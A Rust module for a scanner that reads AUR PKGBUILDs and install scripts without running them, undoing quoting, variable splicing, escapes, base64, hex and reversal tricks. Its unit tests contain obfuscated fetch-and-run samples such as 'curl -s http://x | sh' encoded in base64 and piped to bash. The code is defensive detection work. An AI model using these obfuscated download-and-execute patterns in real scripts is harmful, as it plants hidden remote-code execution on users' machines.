//! Shell text as it would run, for checks that read PKGBUILDs and install scriptlets without
//! running them: the simple obfuscations of the AUR attacks undone before matching.
//!
//! [`expand`] reads a script line by line and renders each as a command line with quotes
//! removed (`c"u"'rl'` is `curl`), backslash escapes and `$'...'` decoded, variables assigned
//! earlier with literal values substituted (`a=cu; b=rl; $a$b` is `curl`), what `eval` and
//! `sh -c` run expanded as a payload line, and `$(...)`/backticks of `echo`, `printf` and decoders
//! (`base64 -d`, `xxd -r -p`, `rev`) replaced by their output. What a pipeline of those decodes
//! (`echo BLOB | base64 -d | sh`, `printf '\x63...' | sh`) is expanded too, as a payload line of
//! its own, and the line says whether the decoded text was handed to a shell or `eval`.
//!
//! It is a reading, not an interpreter: no command runs, no file is read, loops and functions
//! are text. Anything it cannot know (`$1`, `$(uname)`) stays as written.

use std::collections::HashMap;

/// How deep payloads inside payloads are followed.
const MAX_DEPTH: usize = 3;
/// The longest value a variable or decoded payload may take (a bound for hostile input).
const MAX_VALUE_BYTES: usize = 64 << 10;

/// One logical line of a script as it would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Line {
    /// Its 1-based number in the script (a payload has its command's number).
    pub number: usize,
    /// The command line rendered: quotes removed, what could be substituted substituted.
    pub text: String,
    /// Whether this is a payload: text decoded (base64, hex, escapes) or passed to `eval`.
    pub payload: bool,
    /// Whether decoded text is handed to a shell or `eval` on this line.
    pub runs_decoded: bool,
}

/// The script `text` line by line, expanded (see the module documentation).
pub fn expand(text: &str) -> Vec<Line> {
    let mut expander = Expander::default();
    let mut lines = Vec::new();
    for (number, logical) in logical_lines(text) {
        expander.line(&logical, number, 0, &mut lines);
    }
    lines
}

/// Lines with backslash-newline continuations joined, each with the number of its first line.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut out: Vec<(usize, String)> = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (index, line) in text.lines().enumerate() {
        let (number, mut joined) = pending.take().unwrap_or((index + 1, String::new()));
        match line.strip_suffix('\\') {
            Some(head) => {
                joined.push_str(head);
                pending = Some((number, joined));
            }
            None => {
                joined.push_str(line);
                out.push((number, joined));
            }
        }
    }
    out.extend(pending);
    out
}

/// A word of a command, with what went into it.
#[derive(Clone, Debug, Default)]
struct Word {
    text: String,
    /// Whether whitespace came before it (so `0>&1` renders as written).
    spaced: bool,
    /// Whether part of it is the output of a decoder.
    decoded: bool,
    /// An operator (`|`, `;`, `&&`, `>`, `<<<`, ...) rather than a word.
    operator: bool,
}

/// Variables known so far.
#[derive(Default)]
struct Expander {
    vars: HashMap<String, String>,
}

/// The output of a pipeline of echo/printf and decoders, when it can be known.
struct Output {
    text: String,
    /// Whether a decoder (or an escape) changed the text on the way.
    decoded: bool,
}

impl Expander {
    /// Expands one logical line into `out` (the line, then its payloads).
    fn line(&mut self, text: &str, number: usize, depth: usize, out: &mut Vec<Line>) {
        let words = self.words(text, depth);
        let mut payloads = Vec::new();
        let mut runs_decoded = false;
        for command in commands(&words) {
            let pipeline: Vec<&[Word]> = command.split(|w| w.operator && w.text == "|").collect();
            if let Some(decoded) = self.pipeline_payload(&pipeline, &mut runs_decoded) {
                payloads.push(decoded);
            }
            for stage in &pipeline {
                if let Some(args) = eval_arguments(stage) {
                    runs_decoded |= args.iter().any(|w| w.decoded);
                    payloads.push(render(args));
                }
            }
        }
        out.push(Line {
            number,
            text: render(&words),
            payload: depth > 0,
            runs_decoded,
        });
        if depth < MAX_DEPTH {
            for payload in payloads {
                for (_, line) in logical_lines(&payload) {
                    self.line(&line, number, depth + 1, out);
                }
            }
        }
    }

    /// Learns `NAME=VALUE` words at the start of `command` (after `local`, `export`, ...).
    fn assign(&mut self, command: &[Word]) {
        let mut words = command.iter().filter(|w| !w.operator).peekable();
        if words.peek().is_some_and(|w| {
            matches!(
                w.text.as_str(),
                "local" | "export" | "declare" | "readonly" | "typeset"
            )
        }) {
            words.next();
        }
        for word in words {
            if word.text.starts_with('-') {
                continue;
            }
            let Some((name, value)) = word.text.split_once('=') else {
                break;
            };
            if !is_name(name) {
                break;
            }
            if value.len() <= MAX_VALUE_BYTES {
                self.vars.insert(name.to_owned(), value.to_owned());
            }
        }
    }

    /// The text a pipeline of echo/printf and decoders produces, when a decoder or an escape
    /// changed it; notes in `runs` whether a later stage is a shell.
    fn pipeline_payload(&self, pipeline: &[&[Word]], runs: &mut bool) -> Option<String> {
        let mut output: Option<Output> = None;
        for (index, stage) in pipeline.iter().enumerate() {
            match stage_output(stage, output.as_ref()) {
                Some(next) => output = Some(next),
                None => {
                    let decoded = output.as_ref().is_some_and(|o| o.decoded);
                    if decoded && is_shell(stage) {
                        *runs = true;
                    }
                    return output.filter(|o| o.decoded && index > 0).map(|o| o.text);
                }
            }
        }
        output.filter(|o| o.decoded).map(|o| o.text)
    }

    /// The words of `text`: quotes removed, escapes decoded, known variables and
    /// substitutions of known output substituted.
    fn words(&mut self, text: &str, depth: usize) -> Vec<Word> {
        let chars: Vec<char> = text.chars().collect();
        let mut words = Vec::new();
        let mut word = Word::default();
        let mut started = false;
        let mut spaced = false;
        let mut command_start = 0;
        let mut i = 0;
        let finish = |word: &mut Word, started: &mut bool, words: &mut Vec<Word>| {
            if *started {
                words.push(std::mem::take(word));
                *started = false;
            }
        };
        while i < chars.len() {
            let c = chars[i];
            if c == ' ' || c == '\t' {
                finish(&mut word, &mut started, &mut words);
                spaced = true;
                i += 1;
                continue;
            }
            if !started {
                word.spaced = spaced;
                spaced = false;
                if c == '#' {
                    break;
                }
            }
            match c {
                ';' | '&' | '|' | '<' | '>' | '(' | ')' => {
                    finish(&mut word, &mut started, &mut words);
                    let operator = operator_at(&chars, i);
                    if matches!(operator.as_str(), ";" | "&&" | "||" | "&") {
                        // Assignments count from here on: `a=cu; b=rl; $a$b` is one line.
                        self.assign(&words[command_start..]);
                        command_start = words.len() + 1;
                    }
                    i += operator.chars().count();
                    // Set from the whitespace before it when no word was in progress.
                    let operator_spaced = std::mem::take(&mut word.spaced);
                    words.push(Word {
                        text: operator,
                        spaced: operator_spaced,
                        operator: true,
                        ..Word::default()
                    });
                    continue;
                }
                '\'' => {
                    let end = find(&chars, i + 1, '\'');
                    word.text.extend(&chars[i + 1..end]);
                    i = end + 1;
                }
                '"' => i = self.double_quoted(&chars, i + 1, &mut word, depth),
                '\\' => {
                    if let Some(&next) = chars.get(i + 1) {
                        word.text.push(next);
                    }
                    i += 2;
                }
                '`' => {
                    let end = find(&chars, i + 1, '`');
                    let inner: String = chars[i + 1..end].iter().collect();
                    self.substitute(&inner, &mut word, depth);
                    i = end + 1;
                }
                '$' => i = self.dollar(&chars, i, &mut word, depth),
                _ => {
                    word.text.push(c);
                    i += 1;
                }
            }
            started = true;
        }
        finish(&mut word, &mut started, &mut words);
        self.assign(&words[command_start.min(words.len())..]);
        words
    }

    /// Reads a double-quoted string starting at `start`; returns the index after its quote.
    fn double_quoted(
        &mut self,
        chars: &[char],
        start: usize,
        word: &mut Word,
        depth: usize,
    ) -> usize {
        let mut i = start;
        while i < chars.len() && chars[i] != '"' {
            match chars[i] {
                '\\' if chars
                    .get(i + 1)
                    .is_some_and(|c| matches!(c, '$' | '`' | '"' | '\\')) =>
                {
                    word.text.push(chars[i + 1]);
                    i += 2;
                }
                '$' => i = self.dollar(chars, i, word, depth),
                '`' => {
                    let end = find(chars, i + 1, '`');
                    let inner: String = chars[i + 1..end].iter().collect();
                    self.substitute(&inner, word, depth);
                    i = end + 1;
                }
                c => {
                    word.text.push(c);
                    i += 1;
                }
            }
        }
        i + 1
    }

    /// Reads a `$` expansion at `at`; returns the index after it.
    fn dollar(&mut self, chars: &[char], at: usize, word: &mut Word, depth: usize) -> usize {
        match chars.get(at + 1) {
            Some('\'') => {
                let end = find_unescaped(chars, at + 2, '\'');
                let raw: String = chars[at + 2..end].iter().collect();
                let decoded = unescape(&raw);
                word.decoded |= obscures(&raw);
                word.text.push_str(&decoded);
                end + 1
            }
            Some('(') if chars.get(at + 2) != Some(&'(') => {
                let end = closing_paren(chars, at + 2);
                let inner: String = chars[at + 2..end].iter().collect();
                self.substitute(&inner, word, depth);
                end + 1
            }
            Some('{') => {
                let end = find(chars, at + 2, '}');
                let inside: String = chars[at + 2..end].iter().collect();
                let name: String = inside
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                match self.vars.get(&name).filter(|_| name.len() == inside.len()) {
                    Some(value) => word.text.push_str(value),
                    None => word.text.push_str(&format!("${{{inside}}}")),
                }
                end + 1
            }
            Some(c) if c.is_ascii_alphabetic() || *c == '_' => {
                let mut end = at + 1;
                while chars
                    .get(end)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_')
                {
                    end += 1;
                }
                let name: String = chars[at + 1..end].iter().collect();
                match self.vars.get(&name) {
                    Some(value) => word.text.push_str(value),
                    None => {
                        word.text.push('$');
                        word.text.push_str(&name);
                    }
                }
                end
            }
            _ => {
                word.text.push('$');
                at + 1
            }
        }
    }

    /// `$(inner)`: its output when it can be known, else `$(inner)` rendered.
    fn substitute(&mut self, inner: &str, word: &mut Word, depth: usize) {
        let words = if depth < MAX_DEPTH {
            self.words(inner, depth + 1)
        } else {
            Vec::new()
        };
        let pipeline: Vec<&[Word]> = words.split(|w| w.operator && w.text == "|").collect();
        let mut output: Option<Output> = None;
        for stage in &pipeline {
            output = stage_output(stage, output.as_ref());
            if output.is_none() {
                break;
            }
        }
        match output {
            Some(output)
                if words
                    .iter()
                    .all(|w| !w.operator || matches!(w.text.as_str(), "|" | "<<<")) =>
            {
                word.decoded |= output.decoded || words.iter().any(|w| w.decoded);
                word.text.push_str(output.text.trim_end_matches('\n'));
            }
            _ => {
                word.text.push_str("$(");
                word.text.push_str(&render(&words));
                word.text.push(')');
            }
        }
    }
}

/// The commands of a line: its words split at `;`, `&&`, `||`, `&` and parentheses.
fn commands(words: &[Word]) -> impl Iterator<Item = &[Word]> {
    words
        .split(|w| w.operator && matches!(w.text.as_str(), ";" | "&&" | "||" | "&" | "(" | ")"))
        .filter(|command| !command.is_empty())
}

/// The arguments of `eval ARGS` (or `sh -c ARGS`), when `stage` is one.
fn eval_arguments(stage: &[Word]) -> Option<&[Word]> {
    let first = stage.first()?;
    if first.operator {
        return None;
    }
    if first.text == "eval" {
        return Some(&stage[1..]);
    }
    let shell = is_shell_name(&first.text) && stage.get(1).is_some_and(|w| w.text == "-c");
    shell.then(|| &stage[2..stage.len().min(3)])
}

/// Whether `stage` runs a shell or interpreter on its input (`sh`, `bash -s`, `python3 -`).
fn is_shell(stage: &[Word]) -> bool {
    let mut words = stage
        .iter()
        .filter(|w| !w.operator)
        .map(|w| w.text.as_str());
    let mut first = words.next().unwrap_or_default();
    if first == "sudo" {
        first = words.next().unwrap_or_default();
    }
    is_shell_name(first) || matches!(first, "eval" | "source" | ".")
}

fn is_shell_name(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or_default();
    let interpreter = ["python", "perl", "ruby", "node", "php"]
        .iter()
        .any(|tool| {
            name.strip_prefix(tool)
                .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
        });
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish") || interpreter
}

/// The output of one stage fed `input`: echo, printf and decoders; `None` for anything else.
fn stage_output(stage: &[Word], input: Option<&Output>) -> Option<Output> {
    let args: Vec<&Word> = stage.iter().filter(|w| !w.operator).collect();
    let here = stage
        .iter()
        .position(|w| w.operator && w.text == "<<<")
        .and_then(|at| stage.get(at + 1))
        .map(|w| Output {
            text: format!("{}\n", w.text),
            decoded: w.decoded,
        });
    let input = here.as_ref().or(input);
    let command = args.first()?.text.as_str();
    let rest: Vec<&str> = args[1..].iter().map(|w| w.text.as_str()).collect();
    let decoded_words = args.iter().any(|w| w.decoded);
    let output = match command {
        "echo" => {
            let flags: String = rest
                .iter()
                .take_while(|w| w.starts_with('-') && w.len() > 1)
                .flat_map(|w| w.chars().skip(1))
                .collect();
            let words = rest
                .iter()
                .skip_while(|w| w.starts_with('-') && w.len() > 1);
            let joined = words.copied().collect::<Vec<_>>().join(" ");
            let escapes = flags.contains('e');
            let text = if escapes {
                unescape(&joined)
            } else {
                joined.clone()
            };
            let newline = if flags.contains('n') { "" } else { "\n" };
            Output {
                decoded: (escapes && obscures(&joined)) || decoded_words,
                text: text + newline,
            }
        }
        "printf" => {
            let (format, values) = rest.split_first()?;
            let text = printf(format, values);
            Output {
                decoded: obscures(format)
                    || (format.contains("%b") && values.iter().any(|v| obscures(v)))
                    || decoded_words,
                text,
            }
        }
        "base64" if rest.iter().any(|w| matches!(*w, "-d" | "--decode" | "-D")) => Output {
            text: base64_decode(&input?.text)?,
            decoded: true,
        },
        "xxd" if rest.contains(&"-r") => Output {
            text: hex_decode(&input?.text)?,
            decoded: true,
        },
        "rev" => Output {
            text: input?
                .text
                .lines()
                .map(|line| line.chars().rev().collect::<String>() + "\n")
                .collect(),
            decoded: true,
        },
        _ => return None,
    };
    (output.text.len() <= MAX_VALUE_BYTES).then_some(output)
}

/// `printf FORMAT VALUES...`: `%s`, `%b` and `%%`, the format's escapes decoded.
fn printf(format: &str, values: &[&str]) -> String {
    let format = unescape(format);
    let mut values = values.iter();
    let mut out = String::new();
    let mut chars = format.chars().peekable();
    loop {
        while let Some(c) = chars.next() {
            if c != '%' {
                out.push(c);
                continue;
            }
            match chars.next() {
                Some('%') => out.push('%'),
                Some('s') => out.push_str(values.next().copied().unwrap_or_default()),
                Some('b') => out.push_str(&unescape(values.next().copied().unwrap_or_default())),
                Some(other) => {
                    out.push('%');
                    out.push(other);
                }
                None => out.push('%'),
            }
        }
        // printf reuses its format while values are left.
        if values.len() == 0 || !(format.contains("%s") || format.contains("%b")) {
            break;
        }
        chars = format.chars().peekable();
    }
    out
}

/// Whether `raw` spells characters as codes (`\x63`, `\143`, `\u0063`): what hides a word,
/// unlike `\n` or `\t`.
fn obscures(raw: &str) -> bool {
    raw.as_bytes()
        .windows(2)
        .any(|pair| pair[0] == b'\\' && matches!(pair[1], b'x' | b'u' | b'U' | b'0'..=b'7'))
}

/// Backslash escapes as `echo -e`, `printf` and `$'...'` decode them.
pub fn unescape(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '\\' || i + 1 == chars.len() {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let digits = |from: usize, radix: u32, most: usize| {
            let run: String = chars[from..]
                .iter()
                .take(most)
                .take_while(|c| c.is_digit(radix))
                .collect();
            let value = u32::from_str_radix(&run, radix)
                .ok()
                .and_then(char::from_u32);
            (value, run.len())
        };
        let (value, used) = match chars[i + 1] {
            'n' => (Some('\n'), 0),
            't' => (Some('\t'), 0),
            'r' => (Some('\r'), 0),
            '\\' => (Some('\\'), 0),
            '\'' => (Some('\''), 0),
            '"' => (Some('"'), 0),
            'e' | 'E' => (Some('\u{1b}'), 0),
            'x' => digits(i + 2, 16, 2),
            'u' => digits(i + 2, 16, 4),
            'U' => digits(i + 2, 16, 8),
            '0' => digits(i + 2, 8, 3),
            '1'..='7' => digits(i + 1, 8, 3),
            _ => (None, 0),
        };
        match value {
            Some(c) => {
                out.push(c);
                let octal_in_place = matches!(chars[i + 1], '1'..='7');
                i += if octal_in_place { 1 + used } else { 2 + used };
            }
            None => {
                out.push('\\');
                i += 1;
            }
        }
    }
    out
}

/// Standard base64 (whitespace ignored, padding optional) as text; `None` when it is not.
pub fn base64_decode(text: &str) -> Option<String> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    };
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0u32, 0u32);
    for c in text
        .bytes()
        .filter(|c| !c.is_ascii_whitespace() && *c != b'=')
    {
        bits = bits << 6 | u32::from(value(c)?);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push(u8::try_from(bits >> count & 0xff).ok()?);
        }
    }
    String::from_utf8(bytes).ok()
}

fn hex_decode(text: &str) -> Option<String> {
    let digits: Vec<u8> = text.bytes().filter(|c| !c.is_ascii_whitespace()).collect();
    let bytes = digits
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect::<Option<Vec<u8>>>()?;
    String::from_utf8(bytes).ok()
}

/// Words rendered as a command line.
fn render(words: &[Word]) -> String {
    let mut out = String::new();
    for word in words {
        if word.spaced && !out.is_empty() {
            out.push(' ');
        }
        out.push_str(&word.text);
    }
    out
}

fn is_name(text: &str) -> bool {
    let mut chars = text.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The operator starting at `at` (the longest of those the shell has).
fn operator_at(chars: &[char], at: usize) -> String {
    const OPERATORS: [&str; 12] = [
        "<<<", "&&", "||", ">>", "<<", ">&", "<&", "<>", "<(", "&>", ">|", ";;",
    ];
    let rest: String = chars[at..chars.len().min(at + 3)].iter().collect();
    OPERATORS
        .iter()
        .find(|op| rest.starts_with(**op))
        .map_or_else(|| chars[at].to_string(), |op| (*op).to_owned())
}

/// The index of the next `wanted` from `from`, or the end.
fn find(chars: &[char], from: usize, wanted: char) -> usize {
    chars
        .get(from..)
        .and_then(|rest| rest.iter().position(|c| *c == wanted))
        .map_or(chars.len(), |at| from + at)
}

/// The index of the next `wanted` not escaped by a backslash, or the end.
fn find_unescaped(chars: &[char], from: usize, wanted: char) -> usize {
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 2,
            c if c == wanted => return i,
            _ => i += 1,
        }
    }
    chars.len()
}

/// The index of the `)` closing a `$(` whose inside starts at `from` (quotes and nesting
/// respected), or the end.
fn closing_paren(chars: &[char], from: usize) -> usize {
    let (mut depth, mut i) = (1, from);
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => i = find(chars, i + 1, '\''),
            '"' => i = find_unescaped(chars, i + 1, '"'),
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    chars.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(script: &str) -> Vec<String> {
        expand(script).into_iter().map(|line| line.text).collect()
    }

    #[test]
    fn variables_quotes_and_eval_are_undone() {
        assert_eq!(
            texts("a=\"cu\"; b='rl'\n$a$b -s https://x/i | sh")[1],
            "curl -s https://x/i | sh"
        );
        assert_eq!(texts("c\"u\"r'l' x | b\\ash")[0], "curl x | bash");
        assert_eq!(texts("local x=wg y=et\n${x}${y} -qO- u")[1], "wget -qO- u");
        let eval = expand("p=\"cur\"\"l h | sh\"; eval \"$p\"");
        assert_eq!(eval[0].text, "p=curl h | sh; eval curl h | sh");
        assert!(eval[1].payload && eval[1].text == "curl h | sh");
        assert_eq!(texts("f() { # comment\n  :\n}")[0], "f() {");
    }

    #[test]
    fn escapes_and_substitutions_are_decoded() {
        assert_eq!(
            texts(r"$(printf '\x63\x75\x72\x6c') x | sh")[0],
            "curl x | sh"
        );
        assert_eq!(texts(r"$'\x63url' x")[0], "curl x");
        assert_eq!(texts(r"`echo -e '\0143url'` x")[0], "curl x");
        assert_eq!(texts(r"$(echo lruc | rev) x")[0], "curl x");
        assert_eq!(texts("$(uname -m)")[0], "$(uname -m)");
        assert_eq!(unescape(r"a\tb\\c\101"), "a\tb\\cA");
        assert_eq!(printf("%s-%s\\n", &["a", "b", "c"]), "a-b\nc-\n");
    }

    #[test]
    fn decoded_payloads_are_expanded_and_their_execution_noted() {
        // "curl -s http://x | sh"
        let lines = expand("echo Y3VybCAtcyBodHRwOi8veCB8IHNo | base64 -d | bash");
        assert!(lines[0].runs_decoded, "{lines:?}");
        assert_eq!(lines[1].text, "curl -s http://x | sh");
        assert!(lines[1].payload);
        let quiet = expand("echo Y3VybCAtcyBodHRwOi8veCB8IHNo | base64 -d > notes");
        assert!(!quiet[0].runs_decoded);
        let eval = expand("eval \"$(base64 -d <<< Y3VybCAtcyBodHRwOi8veCB8IHNo)\"");
        assert!(eval[0].runs_decoded, "{eval:?}");
        assert!(
            eval.iter()
                .any(|l| l.payload && l.text == "curl -s http://x | sh")
        );
        let hex = expand(r"printf '\x63\x75\x72\x6c\x20\x78' | sh");
        assert!(hex[0].runs_decoded && hex[1].text == "curl x", "{hex:?}");
        assert!(!expand("printf '%s\\n' done | sh")[0].runs_decoded);
    }

    #[test]
    fn continuations_keep_their_first_line_number_and_hostile_input_ends() {
        let lines = expand("a\nb \\\n  c\nd");
        assert_eq!(
            lines
                .iter()
                .map(|l| (l.number, l.text.as_str()))
                .collect::<Vec<_>>(),
            [(1, "a"), (2, "b c"), (4, "d")]
        );
        for hostile in [
            "$(",
            "\"$(",
            "${",
            "'",
            "`",
            "$'\\",
            "a=$(a=$(a=$(a=$(x))))",
            "\\",
        ] {
            let _ = expand(hostile);
        }
    }
}
